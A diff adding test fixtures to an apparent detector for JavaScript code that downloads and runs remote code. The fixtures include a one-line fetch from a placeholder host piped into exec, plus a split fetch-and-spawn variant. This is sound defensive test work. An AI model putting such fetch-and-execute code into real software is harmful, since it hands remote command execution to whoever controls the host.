@@ -8,6 +8,24 @@ const UPDATES = `const fs = require('fs'), path = require('path'), os = require(
 examine(runsDownloadedCode, {
   speaks: [
     {
+      when: 'files that nothing reaches fetch and start programs for others, each a part',
+      files: {
+        'index.js': 'module.exports = 1;',
+        'tools/ask.js': `exports.ask = async path => (await fetch('https://api.invalid/' + path)).json();`,
+        'tools/start.js': `const { spawn } = require('child_process'); exports.start = program => spawn(program, []);`,
+        'tools/make.js': `const { ask } = require('./ask'), { start } = require('./start'); exports.make = async () => start((await ask('settings')).manager);`,
+      },
+      weight: 'weak',
+    },
+    {
+      when: 'one file that nothing reaches fetches a command and starts it',
+      files: {
+        'index.js': 'module.exports = 1;',
+        'tools/make.js': `const { exec } = require('child_process'); fetch('https://api.invalid/x').then(answer => answer.text()).then(text => exec(text));`,
+      },
+      weight: 'strong',
+    },
+    {
       when: 'an application is updated from where it says, and its next version outlives this one',
       files: { 'index.js': UPDATES.replace('ADDRESS', 'this.at + "/next"') },
       weight: 'weak',
